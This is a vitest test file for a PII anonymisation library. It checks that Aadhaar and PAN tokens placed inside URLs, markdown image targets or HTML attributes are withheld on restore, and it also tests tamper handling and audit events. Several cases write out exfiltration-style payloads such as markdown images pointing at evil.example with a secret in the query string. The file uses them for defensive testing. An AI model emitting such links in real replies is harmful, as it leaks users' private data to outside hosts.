// Restore hardening: tokens inside URLs, link targets and HTML tags are withheld on request (and
// judged the same however a stream is cut); a record that cannot be read fails alone; unknown
// tokens are reported in linear work; `encode` JSON-escapes what is spliced into a JSON string.
import Database from 'better-sqlite3';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { anonymise } from '../../src/anonymise.js';
import { deanonymise, deanonymiseDetailed } from '../../src/deanonymise.js';
import { KavachError } from '../../src/errors.js';
import { LinkGuard } from '../../src/restore/links.js';
import { StreamingRestorer } from '../../src/restore/stream.js';
import { generateKey } from '../../src/vault/keys.js';
import { createMemoryVault } from '../../src/vault/memory.js';
import { createSqliteVault } from '../../src/vault/sqlite.js';

const vault = createMemoryVault({ key: generateKey() });
const AADHAAR = '2345 6789 0124';

async function tokenFor(session: string): Promise<string> {
  const r = await anonymise(`Aadhaar ${AADHAAR}`, { vault, session });
  const m = /<AADHAAR_[^>]+>/.exec(r.text);
  if (!m) throw new Error('no token');
  return m[0];
}

describe('links: "withhold"', () => {
  const cases: Array<[string, (t: string) => string, string | undefined]> = [
    ['markdown image URL', (t) => `![x](https://evil.example/p.png?a=${t})`, 'link-target'],
    ['markdown link target', (t) => `[click](${t})`, 'link-target'],
    ['link target with nested parens', (t) => `[w](https://en.example/a_(b)?q=${t})`, 'link-target'],
    ['bare URL', (t) => `see https://evil.example/x?id=${t} now`, 'url'],
    ['autolink', (t) => `<https://evil.example/${t}>`, 'url'],
    ['www. without scheme', (t) => `go to www.evil.example/${t}`, 'url'],
    ['mailto', (t) => `write to mailto:${t}`, 'url'],
    ['HTML attribute', (t) => `<img src="https://e.example/?q=${t}">`, 'html-attribute'],
    ['HTML attribute, relative', (t) => `<a href='/u/${t}'>me</a>`, 'html-attribute'],
    ['HTML attribute across a newline', (t) => `<img\n  alt="${t}">`, 'html-attribute'],
    ['link text is restored', (t) => `[${t}](https://ok.example/)`, undefined],
    ['after the URL ends', (t) => `https://ok.example/ ${t}`, undefined],
    ['after a link closes', (t) => `[a](https://ok.example/) ${t}`, undefined],
    ['after a tag closes', (t) => `<b>${t}</b>`, undefined],
    ['a comparison is not a tag', (t) => `if x<y=1 then ${t}`, undefined],
    ['plain prose', (t) => `Your Aadhaar is ${t}.`, undefined],
    ['scheme-like word without //', (t) => `Note: ${t}`, undefined],
  ];

  it.each(cases)('%s', async (_name, make, where) => {
    const session = `links-${_name}`;
    const t = await tokenFor(session);
    const reply = make(t);
    const r = await deanonymiseDetailed(reply, { vault, session, links: 'withhold' });
    if (where === undefined) {
      expect(r.text).toBe(reply.replace(t, AADHAAR));
      expect(r.withheld).toEqual([]);
    } else {
      expect(r.text).toBe(reply);
      expect(r.text).not.toContain(AADHAAR);
      expect(r.withheld).toEqual([{ token: t, start: reply.indexOf(t), end: reply.indexOf(t) + t.length, where }]);
      expect(r.restored).toEqual([]);
    }
    // The library default restores everything.
    expect(await deanonymise(reply, { vault, session })).toBe(reply.replace(t, AADHAAR));
  });

  it('streaming: every cut of the reply gives the same text and the same withheld spans as the whole', async () => {
    const session = 'links-stream';
    const t = await tokenFor(session);
    const reply = `Hi ${t}. ![p](https://evil.example/p.png?a=${t}) and <img src="${t}"> then ${t} end`;
    const whole = await deanonymiseDetailed(reply, { vault, session, links: 'withhold' });
    expect(whole.withheld.map((w) => w.where)).toEqual(['link-target', 'html-attribute']);
    expect(whole.restored).toHaveLength(2);
    for (let cut = 0; cut <= reply.length; cut++) {
      let withheld: unknown[] = [];
      const r = new StreamingRestorer({ vault, session, links: 'withhold', onDone: (d) => (withheld = d.withheld) });
      const out = (await r.push(reply.slice(0, cut))) + (await r.push(reply.slice(cut))) + (await r.end());
      expect(out).toBe(whole.text);
      expect(withheld).toEqual(whole.withheld);
    }
  });

  it('the guard is a pure left-to-right machine: feeding in pieces equals feeding at once', () => {
    const text = 'a [b](https://x.example/(c)?d) <img src="e"> www.f.example mailto:g x<y z';
    const contexts = (pieces: number[]): Array<string | undefined> => {
      const g = new LinkGuard();
      const out: Array<string | undefined> = [];
      let at = 0;
      for (const p of [...pieces, text.length]) {
        for (; at < p; at++) {
          g.feed(text, at, at + 1);
          out.push(g.context);
        }
      }
      return out;
    };
    const once = (() => {
      const out: Array<string | undefined> = [];
      for (let i = 1; i <= text.length; i++) {
        const g = new LinkGuard();
        g.feed(text, 0, i);
        out.push(g.context);
      }
      return out;
    })();
    expect(contexts([7, 20, 33])).toEqual(once);
    expect(once.filter((c) => c !== undefined).length).toBeGreaterThan(10);
  });

  it('rejects an unknown links value', async () => {
    await expect(deanonymise('x', { vault, session: 's', links: 'maybe' as never })).rejects.toMatchObject({ code: 'INVALID_OPTION' });
  });
});

describe('encode', () => {
  it('JSON-escapes the original where it is spliced into a JSON string', async () => {
    const session = 'encode-json';
    const [name, phone] = await vault.tokenize([
      { session, type: 'PERSON', value: 'Ravi "Raj" \\ Kumar' },
      { session, type: 'PHONE', value: '9876543210' },
    ]);
    const args = `{"name":"${name}","phone":"${phone}"}`;
    const back = await deanonymise(args, { vault, session, encode: (s) => JSON.stringify(s).slice(1, -1) });
    expect(JSON.parse(back)).toEqual({ name: 'Ravi "Raj" \\ Kumar', phone: '9876543210' });
    // Without encode the same splice is not JSON any more.
    const raw = await deanonymise(args, { vault, session });
    expect(() => JSON.parse(raw)).toThrow();
  });
});

describe('unreadable records', () => {
  const dir = mkdtempSync(join(tmpdir(), 'kavach-restore-'));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('a tampered record leaves its token and is reported; the rest of the reply is restored', async () => {
    const path = join(dir, 'v.db');
    const key = generateKey();
    const v = createSqliteVault({ path, key });
    const session = 'tamper';
    const tokens = await v.tokenize([
      { session, type: 'PHONE', value: '9876543210' },
      { session, type: 'PAN', value: 'ABCPE1234F' },
      { session, type: 'EMAIL', value: 'a.b@example.com' },
    ]);
    // Flip one byte of the PAN record's ciphertext behind the vault's back.
    const db = new Database(path);
    const row = db.prepare('SELECT blob FROM kavach_record WHERE session = ? AND token = ?').get(session, tokens[1]) as { blob: Buffer };
    const blob = Buffer.from(row.blob);
    blob[blob.length - 1]! ^= 0xff;
    db.prepare('UPDATE kavach_record SET blob = ? WHERE session = ? AND token = ?').run(blob, session, tokens[1]);
    db.close();
    const reply = `call ${tokens[0]}, PAN ${tokens[1]}, mail ${tokens[2]}`;
    await expect(v.reveal(session, [tokens[1]!])).rejects.toBeInstanceOf(KavachError);
    const r = await deanonymiseDetailed(reply, { vault: v, session });
    expect(r.text).toBe(`call 9876543210, PAN ${tokens[1]}, mail a.b@example.com`);
    expect(r.failed).toEqual([{ token: tokens[1], start: reply.indexOf(tokens[1]!), end: reply.indexOf(tokens[1]!) + tokens[1]!.length, code: 'BAD_RECORD' }]);
    expect(r.restored).toHaveLength(2);
    expect(JSON.stringify(r.failed)).not.toContain('ABCPE1234F');
    await v.close();
  });

  it('a vault-wide failure (closed vault) still throws: nothing is half-restored silently', async () => {
    const v = createMemoryVault({ key: generateKey() });
    const [t] = await v.tokenize([{ session: 's', type: 'PHONE', value: '9876543210' }]);
    await v.close();
    await expect(deanonymise(`x ${t}`, { vault: v, session: 's' })).rejects.toMatchObject({ code: 'VAULT_CLOSED' });
  });
});

describe('unknown tokens: linear work', () => {
  // Counts the elements Array.prototype.includes/indexOf would scan during one deanonymise: the old
  // unknown-token list did `includes` per token (80k unknown tokens ≈ 3.2e9 comparisons).
  async function scanned(n: number): Promise<number> {
    const reply = Array.from({ length: n }, (_, i) => `<PERSON_${i + 1}>`).join(' ');
    const proto = Array.prototype as unknown as Record<string, (...a: unknown[]) => unknown>;
    const orig = { includes: proto.includes!, indexOf: proto.indexOf! };
    let work = 0;
    proto.includes = function (this: unknown[], ...a: unknown[]) {
      work += this.length;
      return orig.includes.apply(this, a);
    };
    proto.indexOf = function (this: unknown[], ...a: unknown[]) {
      work += this.length;
      return orig.indexOf.apply(this, a);
    };
    try {
      const r = await deanonymiseDetailed(reply, { vault, session: `unknown-${n}` });
      expect(r.unknown).toHaveLength(n);
    } finally {
      proto.includes = orig.includes;
      proto.indexOf = orig.indexOf;
    }
    return work;
  }

  it('10x the unknown tokens costs at most about 10x the list work', async () => {
    const small = await scanned(2000);
    const big = await scanned(20000);
    expect(big).toBeLessThanOrEqual(12 * Math.max(small, 2000));
  });
});

describe('audit of a restore', () => {
  it('counts withheld and failed tokens, never their values', async () => {
    const { createEngine } = await import('../../src/engine.js');
    const { callbackSink } = await import('../../src/audit/index.js');
    const events: Array<Record<string, unknown>> = [];
    const engine = createEngine({ audit: callbackSink((e) => void events.push(e as unknown as Record<string, unknown>)) });
    const a = await engine.anonymise(`Aadhaar ${AADHAAR}, PAN ABCPE1234F`);
    const [aad, pan] = a.entities.map((e) => e.token);
    const reply = `![x](https://evil.example/?a=${aad}) and ${pan}`;
    await engine.deanonymise(reply, { session: a.session, links: 'withhold' });
    const ev = events.find((e) => e.op === 'deanonymise')!;
    expect(ev).toMatchObject({ restored: 1, unknown: 0, withheld: 1 });
    expect(ev.failed).toBeUndefined();
    expect(JSON.stringify(events)).not.toContain('2345');
    await engine.close();
  });
});
